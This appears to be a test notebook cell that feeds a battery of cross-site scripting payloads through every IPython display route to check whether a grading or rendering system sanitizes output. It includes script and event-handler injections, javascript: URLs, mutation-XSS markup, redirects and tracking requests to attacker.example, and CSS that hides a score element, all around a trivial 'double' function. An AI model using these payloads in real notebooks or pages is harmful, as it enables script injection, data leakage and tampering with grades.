"""Row 21: HTML and scripts in output, by every way IPython shows something."""

# cell: double
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display

ON = "on"
SCRIPT = "<scr" + "ipt>owned(1)</scr" + "ipt>"
JS = "java" + "script:owned(2)"
PARTS = [
    SCRIPT,
    f"<img src=x {ON}error=owned(3)>",
    f"<svg {ON}load=owned(4)><animate attributeName=href to='{JS}'/></svg>",
    f"<a href='{JS}'>see your marks</a> <a href=' java&#115;cript:owned(5)'>and more</a>",
    f"<iframe srcdoc='{SCRIPT}'></iframe><object data='{JS}'></object><embed src='{JS}'>",
    f"<form action='{JS}'><input autofocus {ON}focus=owned(6)><button formaction='{JS}'>ok</button></form>",
    "<base href='https://attacker.example/'><meta http-equiv=refresh content='0;url=https://attacker.example'>",
    "<link rel=stylesheet href='https://attacker.example/x.css'><style>.score{display:none}</style>",
    "<img src='https://attacker.example/seen.png'><div style='background:url(https://attacker.example/s)'>s</div>",
    f"<math><mtext><table><mglyph><style><img src=x {ON}error=owned(7)></style></mglyph></table></mtext></math>",
    f"</pre></div></div></div></textarea></title></style>-->{SCRIPT}<!--",
]
print(*PARTS, sep="\n")
for part in PARTS:
    display(HTML(part))
    display(Markdown(part))
    display({"text/plain": part, "text/html": [part]}, raw=True)
display(Javascript("owned(8)"))
display(SVG(f"<svg xmlns='http://www.w3.org/2000/svg' {ON}load='owned(9)'>{SCRIPT}</svg>"))
display(Latex(rf"$\href{{{JS}}}{{x}}$ \def\x{{\x}}\x"))
display(Markdown(f"[marks]({JS}) ![x](https://attacker.example/seen.png) <{JS}>"))
display({"image/png": f"'\"><img src=x {ON}error=owned(10)>", "text/plain": "png"}, raw=True)
display({"image/jpeg": f"'\">{SCRIPT}", "text/plain": "jpeg"}, raw=True, metadata={"image/jpeg": {"width": f"1>{SCRIPT}"}})
display({"application/javascript": "owned(11)", "application/vnd.jupyter.widget-view+json": {"model_id": f"{SCRIPT}"}}, raw=True)
display({"text/x-unknown": SCRIPT, "application/pdf": SCRIPT, "application/json": {SCRIPT: SCRIPT}}, raw=True)


def double(x):
    return 2 * x


double
